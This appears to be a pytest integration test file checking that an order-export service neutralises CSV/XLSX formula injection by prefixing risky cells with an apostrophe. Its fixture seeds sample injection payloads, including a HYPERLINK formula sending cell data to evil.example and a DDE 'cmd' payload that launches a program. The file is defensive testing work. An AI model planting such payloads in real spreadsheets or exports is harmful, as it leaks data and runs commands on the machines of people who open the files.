"""CSV/XLSX formula neutralisation (OWASP CSV injection): text cells starting with =, +, -, @,
tab or CR get a leading apostrophe in both formats; amounts stay numbers."""

from __future__ import annotations

from datetime import UTC, datetime

import httpx
import pytest
from sqlalchemy import update

from app.config import Settings
from app.db import Database
from app.models import Order
from tests.conftest import order_payload
from tests.integration.export_support import (
    parse_csv,
    parse_xlsx,
    seed_calendar,  # noqa: F401
)
from tests.integration.test_exports_api import job_body, run_job, token

pytestmark = pytest.mark.usefixtures("seed_calendar")

FIELDS = [
    "buyer_nickname",
    "buyer_note",
    "merchant_remark",
    "receiver_name",
    "receiver_address",
    "items",
    "goods_amount",
    "province",
]


@pytest.fixture
async def hostile(
    client: httpx.AsyncClient, db: Database, shop: dict[str, int], internal_headers: dict[str, str]
) -> int:
    shop_id = shop["shop_id"]
    base = f"/internal/v1/shops/{shop_id}/orders"
    body = order_payload(
        buyer={"id": "-1001", "nickname": "@SUM(A1:A9)"},
        buyer_note='=HYPERLINK("http://evil.example/?"&A1,"click")',
        receiver={
            "name": "+86 张三",
            "phone": "13812341234",
            "address": "广东省深圳市",
            "province": "广东",
            "city": "深圳",
        },
        items=[{"product_id": 1, "title": "-2+3 T恤", "quantity": 1, "unit_price": 1250}],
        shipping_fee=0,
        created_at=datetime(2026, 3, 10, 2, 0, tzinfo=UTC).isoformat(),
    )
    r = await client.post(base, json=body, headers=internal_headers)
    assert r.status_code == 201, r.text
    order_id = r.json()["id"]
    r = await client.post(
        f"{base}/{order_id}/pay",
        json={"pay_method": "alipay", "paid_at": "2026-03-10T02:05:00+00:00"},
        headers=internal_headers,
    )
    assert r.status_code == 200, r.text
    async with db.transaction() as s:
        await s.execute(
            update(Order)
            .where(Order.shop_id == shop_id, Order.id == order_id)
            # Set here: the ingest API trims whitespace such as a leading tab.
            .values(merchant_remark="\r=cmd|' /C calc'!A0", receiver_address="\t=1+1 广东省深圳市")
        )
    return shop_id


EXPECTED = {
    "buyer_id": "'-1001",
    "buyer_nickname": "'@SUM(A1:A9)",
    "buyer_note": '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "merchant_remark": "'\r=cmd|' /C calc'!A0",
    "receiver_name": "'+86 张三",
    "receiver_address": "'\t=1+1 广东省深圳市",
    "items": "'-2+3 T恤 x1",
    "province": "广东",  # harmless text is untouched
    "pay_method": "alipay",
}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_formula_text_gets_an_apostrophe_amounts_stay_numbers(
    client: httpx.AsyncClient, db: Database, settings: Settings, hostile: int, fmt: str
) -> None:
    h = await token(db, hostile, "exports", "orders:read_pii")
    _, data = await run_job(client, db, settings, hostile, h, job_body(format=fmt, fields=FIELDS))
    if fmt == "csv":
        rows = parse_csv(data)
    else:  # xlsx stores CR as the escape _x000D_
        rows = [[c.replace("_x000D_", "\r") for c in r] for r in parse_xlsx(data)]
    header, row = rows[0], rows[1]
    got = dict(zip(header, row, strict=False))
    assert {k: got[k] for k in EXPECTED} == EXPECTED
    # Money is a number (12.50 yuan), never prefixed.
    assert float(got["paid_amount"]) == 12.5 and float(got["goods_amount"]) == 12.5
    if fmt == "csv":
        assert got["paid_amount"] == "12.50"


async def test_masked_receiver_is_neutralised_too(
    client: httpx.AsyncClient, db: Database, settings: Settings, hostile: int
) -> None:
    h = await token(db, hostile, "exports")
    _, data = await run_job(client, db, settings, hostile, h, job_body(fields=FIELDS))
    rows = parse_csv(data)
    got = dict(zip(rows[0], rows[1], strict=True))
    assert got["receiver_name"].startswith("'+")
    assert "*" in got["receiver_name"]


async def test_sync_csv_is_neutralised(
    client: httpx.AsyncClient, db: Database, hostile: int
) -> None:
    h = await token(db, hostile, "orders:read", "exports")
    r = await client.get(
        f"/v1/shops/{hostile}/orders.csv",
        params={
            "created_from": "2026-03-08T00:00:00+08:00",
            "created_to": "2026-03-13T00:00:00+08:00",
            "fields": "buyer_note",
        },
        headers=h,
    )
    assert r.status_code == 200, r.text
    rows = parse_csv(r.content)
    assert rows[1][rows[0].index("buyer_note")] == EXPECTED["buyer_note"]
